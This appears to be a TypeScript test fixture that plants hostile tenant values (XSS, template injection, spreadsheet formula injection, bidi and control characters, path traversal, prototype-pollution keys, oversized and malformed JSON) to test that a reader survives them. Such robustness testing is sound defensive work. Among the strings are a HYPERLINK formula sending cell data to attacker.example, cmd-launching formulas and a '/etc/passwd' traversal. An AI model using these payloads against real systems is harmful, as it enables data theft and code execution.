import type { Json, JsonObject } from '../../model/index.ts';

/**
 * Values that a tenant may write and a reader must survive: markup, formulas, control and direction characters,
 * lone surrogates, great length, depth and width, keys of prototypes, and JSON that no value can hold.
 */

/** Stands for JSON text that has no value of its own (a number beyond 2^53, a key twice); `printJson` writes it out. */
function raw(text: string): string {
  return `\u0000raw ${text}\u0000`;
}

const rawPattern = /"\\u0000raw (.*?)\\u0000"/g;

/** JSON.stringify, with what `raw` stands for written out. */
export function printJson(value: unknown): string {
  const text = JSON.stringify(value);
  return text.includes('\\u0000raw ') ? text.replace(rawPattern, (_, inner: string) => JSON.parse(`"${inner}"`) as string) : text;
}

export const hostileTexts = [
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  `"><svg/onload=alert(3)>{{constructor.constructor('alert(4)')()}}`,
  `=HYPERLINK("http://attacker.example/?"&A1,"open")`,
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\u202Etxt.exe\u202C \u2066left\u2069 \u200B\uFEFF',
  'bell \u0007 escape \u001b[31m line\r\nfeed \u2028 \u2029',
  'lone \ud800 surrogate \udc00',
  '../../../../etc/passwd\u0000.json',
  'x'.repeat(1_000_000),
] as const;

function nested(depth: number): Json {
  let value: Json = 'bottom';
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? { down: value } : [value];
  return value;
}

const hostileValues: readonly Json[] = [
  ...hostileTexts,
  Array.from({ length: 10_000 }, (_, i) => `element ${String(i)}`),
  nested(400),
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toString":"text","hasOwnProperty":1}') as Json,
  raw('9007199254740993'),
  raw('-1e400'),
  raw('{"twice":"first","twice":"second"}'),
];

const nestedAt = hostileTexts.length + 1;

/** How many different values there are: plant this many records to have them all. */
export const hostileKinds = hostileValues.length;

/** The value of this turn; for Google Cloud, whose wire holds well-formed text and doubles only, `wire: 'protobuf'`. */
function hostileValue(turn: number, wire: 'json' | 'protobuf'): Json {
  const value = hostileValues[turn % hostileValues.length] as Json;
  if (wire === 'json') return value;
  // Protocol buffers stop at a hundred messages within one another, and each level of JSON takes three.
  if (turn % hostileValues.length === nestedAt) return nested(24);
  if (typeof value !== 'string') return value;
  return value.replaceAll('\u0000', '').toWellFormed();
}

/** Adds a hostile value under a name that no control reads, and a hostile tag or label. */
export function plantHostile(document: JsonObject, turn: number, wire: 'json' | 'protobuf'): JsonObject {
  return { ...document, tenantNote: hostileValue(turn, wire) };
}
export function hostileTags<T extends Json>(tags: Readonly<Record<string, T>>, turn: number): Record<string, T | string> {
  const text = (hostileTexts[turn % hostileTexts.length] as string).slice(0, 4096).toWellFormed();
  const planted = Object.entries({ ...tags, note: text, [`k<b>${String(turn)}`]: text });
  // Object.fromEntries defines, so that the name is a tag and not the prototype.
  return Object.fromEntries([...planted, ['__proto__', 'polluted']]);
}
